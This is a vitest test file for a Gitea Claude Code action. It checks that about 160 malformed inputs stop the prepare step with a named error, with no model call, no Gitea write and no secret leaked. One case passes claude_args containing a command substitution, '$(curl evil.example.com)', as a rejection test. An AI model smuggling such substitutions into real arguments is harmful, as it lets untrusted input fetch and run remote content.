/**
 * The bad-input corpus: event payloads, inputs, claude_args, JSON schemas,
 * mcp_config, settings, dispatch payloads and progress endpoints that cannot
 * work. Each must stop prepare with a clear error naming the input (or the
 * event field) before anything happens: the run step is not asked for (so no
 * model request), nothing is written to Gitea (no tracking comment, no
 * branch), and no secret appears in what prepare printed or set.
 *
 * prepare() runs in-process; the last cases run the real action and check
 * the model got no request at all.
 */
import { mkdir, rm, writeFile } from "node:fs/promises";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { start as startReceiver, type Receiver } from "../../examples/dispatch/receiver";
import { secretVariants } from "../../src/text/redact";
import { PINS } from "../../src/pins";
import { PREPARE_OUTPUTS } from "../../src/steps";
import { issueCommentPayload, repositoryDispatchPayload, workflowDispatchPayload } from "../support/gitea/payloads";
import { runInProcess, type Dirs } from "../support/inprocess";
import { actionYml } from "../support/repo";
import { REPO, SECRETS, USERS, World, step } from "../support/scenario";

import { CASES, LONG_KEY, type Case, type Json } from "./bad-inputs.cases";
import type { ProcessRunner } from "../../src/claude/process";

/** `claude --version` (and `bun --version`) answered without starting anything. */
const version = (text: string): ProcessRunner => ({ run: async () => ({ code: 0, signal: null, stdout: `${text}\n`, stderr: "" }) });

const ALL_SECRETS = [...Object.values(SECRETS), LONG_KEY];
/** Secrets and their base64 forms (as in basic-auth headers), and for long keys any 24-character piece. */
function leaks(text: string): string[] {
  const found: string[] = [];
  for (const s of ALL_SECRETS) {
    for (const v of secretVariants(s)) if (text.includes(v)) found.push(`${s.slice(0, 8)}… (${v === s ? "raw" : "base64"})`);
    for (let i = 0; i + 24 <= s.length; i += 8) if (text.includes(s.slice(i, i + 24))) found.push(`${s.slice(0, 8)}… (a piece)`);
  }
  return [...new Set(found)];
}

let world: World;
let dirs: Dirs;
let receiver: Receiver;
let index: number;
let issueEvent: Json;
beforeAll(async () => {
  world = await World.start({ publicUrl: "https://gitea.example.com" });
  dirs = await world.runnerDirs();
  receiver = await startReceiver({ secret: SECRETS.progressSecret, path: "/progress" });
  const issue = world.gitea.createIssue(REPO, { title: "Inputs", body: "Check the inputs.", user: USERS.alice });
  const c = world.gitea.addComment(REPO, issue.index, { user: USERS.alice, body: "@claude go" });
  index = issue.index;
  issueEvent = await issueCommentPayload(world.gitea, REPO, issue.index, c.id);
});
afterAll(async () => {
  await receiver?.close();
  await world?.close();
});

async function eventFor(c: Case): Promise<{ eventName: string; event: Json }> {
  const eventName = c.eventName ?? "issue_comment";
  let base: Json = issueEvent;
  if (eventName === "workflow_dispatch") base = await workflowDispatchPayload(world.gitea, REPO, { workflow: "claude.yml", sender: USERS.owner });
  if (eventName === "repository_dispatch") base = await repositoryDispatchPayload(world.gitea, REPO, { action: "claude", sender: USERS.owner });
  if (!c.event) return { eventName, event: base };
  const made = await c.event(base, { receiver });
  // Dispatch builders give only the parts that differ; the rest of the payload is Gitea's.
  return { eventName, event: eventName.endsWith("dispatch") && !Array.isArray(made) ? { ...base, ...made } : made };
}

it("has at least 160 cases, covering every input of action.yml", () => {
  expect(CASES.length).toBeGreaterThanOrEqual(160);
  expect(new Set(CASES.map((c) => c.name)).size).toBe(CASES.length);
  // Every input with a rule is broken at least once (the free-text prompts and the credentials' presence are not values with a rule).
  const free = ["custom_instructions", "direct_prompt", "override_prompt", "system_prompt", "append_system_prompt"];
  const named = new Set(CASES.flatMap((c) => Object.keys(c.with ?? {}).filter((k) => c.names === `'${k}'`)));
  expect(Object.keys(actionYml().inputs).filter((i) => !free.includes(i) && !named.has(i))).toEqual([]);
});

describe.each(CASES)("$name", (c) => {
  it(`stops prepare naming ${c.names}, before anything happens`, async () => {
    for (const [file, content] of Object.entries(c.files ?? {})) {
      const target = path.join(dirs.workspace, file);
      await rm(target, { recursive: true, force: true });
      if (content === null) {
        await mkdir(target, { recursive: true });
        continue;
      }
      await mkdir(path.dirname(target), { recursive: true });
      await writeFile(target, content);
    }
    const { eventName, event } = await eventFor(c);
    const commentsBefore = world.gitea.listComments(REPO, index).length;
    const branchesBefore = await world.gitea.listBranches(REPO);
    const updatesBefore = receiver.updates.length;
    const from = world.gitea.requests.length;
    const result = await runInProcess(world, {
      eventName,
      event,
      dirs,
      ...(c.with ? { with: c.with } : {}),
      ...(c.rawEvent !== undefined ? { rawEvent: c.rawEvent } : {}),
      ...(c.cliVersion ? { processRunner: version(c.cliVersion) } : {}),
    });
    const io = result.prepare.io;
    const errors = io.lines.filter((l) => l.startsWith("::error::"));

    expect(result.prepare.code, result.log).toBe(1);
    expect(errors.some((l) => l.includes(c.names)), `no error naming ${c.names}:\n${result.log}`).toBe(true);
    // The run step is not asked for (no model request) and finish has nothing to do.
    expect(io.outputs[PREPARE_OUTPUTS.containsTrigger]).toBe("false");
    // The run's verdict: failure (never "skipped", which means nothing triggered it).
    expect(io.outputs[PREPARE_OUTPUTS.conclusion]).toBe("failure");
    expect(io.outputs[PREPARE_OUTPUTS.started]).toBeUndefined();
    expect(result.finish).toBeUndefined();
    // Nothing written to Gitea: no comment, no branch, no write request at all.
    expect(world.gitea.listComments(REPO, index)).toHaveLength(commentsBefore);
    expect(await world.gitea.listBranches(REPO)).toEqual(branchesBefore);
    expect(world.gitea.requests.slice(from).filter((r) => r.kind === "api" && r.method !== "GET")).toEqual([]);
    // A dispatch that named a usable endpoint is told it failed; otherwise the backend hears nothing.
    const updates = receiver.updates.slice(updatesBefore);
    if (c.tellsBackend) {
      expect(updates.map((u) => [u.body.status, u.body.conclusion])).toEqual([["failed", "failure"]]);
      // With the reason, which names the input like the error does.
      expect(String(updates[0]!.body.message)).toContain(c.names.startsWith("'") ? c.names.slice(1, -1) : c.names.slice(0, 20));
    } else expect(updates).toEqual([]);
    // No secret in anything prepare printed or set (masks are the runner's business).
    expect(leaks([...io.lines, ...Object.values(io.outputs), io.summary].join("\n"))).toEqual([]);
  });
});

describe("through the real action", () => {
  const cases: Array<{ name: string; with: Record<string, string>; names: string }> = [
    { name: "claude_args with a command substitution", with: { claude_args: "--model $(curl evil.example.com)" }, names: "Invalid input 'claude_args'" },
    { name: "mcp_config without mcpServers", with: { mcp_config: '{"servers": {}}' }, names: "Invalid input 'mcp_config'" },
    { name: "settings that are not JSON", with: { settings: "{ nope" }, names: "Invalid input 'settings'" },
    { name: "settings with a wrong-typed key", with: { settings: '{"model": 42}' }, names: "Invalid input 'settings'" },
    { name: "a nonexistent base_branch", with: { base_branch: "no-such-branch" }, names: "Invalid input 'base_branch'" },
    { name: "a three-character progress_secret", with: { progress_secret: "abc" }, names: "Invalid input 'progress_secret'" },
  ];
  it.each(cases)("$name: prepare fails naming it, Claude never starts, nothing is posted", async (k) => {
    const commentsBefore = world.gitea.listComments(REPO, index).length;
    const requestsBefore = world.model.requests.length;
    const result = await world.runAction({ eventName: "issue_comment", event: issueEvent, with: k.with });
    expect(result.success).toBe(false);
    expect(step(result, "prepare")?.outcome).toBe("failure");
    expect(step(result, "run")?.outcome).toBe("skipped");
    expect(step(result, "finish")?.outcome).toBe("skipped");
    // The action's conclusion output says failure (a workflow checking it must not read "nothing to do").
    expect(result.outputs.conclusion).toBe("failure");
    expect(result.annotations.some((a) => a.level === "error" && a.message.includes(k.names))).toBe(true);
    expect(world.model.requests.length).toBe(requestsBefore);
    expect(world.gitea.listComments(REPO, index)).toHaveLength(commentsBefore);
    expect(leaks(`${result.log}\n${result.summary}`)).toEqual([]);
  });

  it("a runner image with the v0.0.63-era CLI 1.0.117: prepare fails naming it and the minimum, no comment, no model call", async () => {
    const old = path.join(world.dir, "old-cli", "claude");
    await mkdir(path.dirname(old), { recursive: true });
    await writeFile(old, '#!/bin/sh\nif [ "$1" = "--version" ]; then echo "1.0.117 (Claude Code)"; exit 0; fi\necho "error: unknown option \'--setting-sources=user,project,local\'" >&2; exit 1\n', { mode: 0o755 });
    const commentsBefore = world.gitea.listComments(REPO, index).length;
    const requestsBefore = world.model.requests.length;
    const result = await world.runAction({ eventName: "issue_comment", event: issueEvent, with: { path_to_claude_code_executable: old } });
    expect(result.success).toBe(false);
    expect(step(result, "run")?.outcome).toBe("skipped");
    expect(result.outputs.conclusion).toBe("failure");
    expect(result.annotations.some((a) => a.level === "error" && new RegExp(`Claude Code 1\\.0\\.117 at .* is older than ${PINS.minCliVersion.replace(/\./g, "\\.")}`).test(a.message))).toBe(true);
    expect(world.model.requests.length).toBe(requestsBefore);
    expect(world.gitea.listComments(REPO, index)).toHaveLength(commentsBefore);
  });

  it("a comment that does not mention Claude: conclusion 'skipped', the step succeeds", async () => {
    const quiet = await issueCommentPayload(world.gitea, REPO, index, world.gitea.addComment(REPO, index, { user: USERS.alice, body: "no mention here" }).id);
    const result = await world.runAction({ eventName: "issue_comment", event: quiet });
    expect(result.success).toBe(true);
    expect(result.outputs.conclusion).toBe("skipped");
  });
});
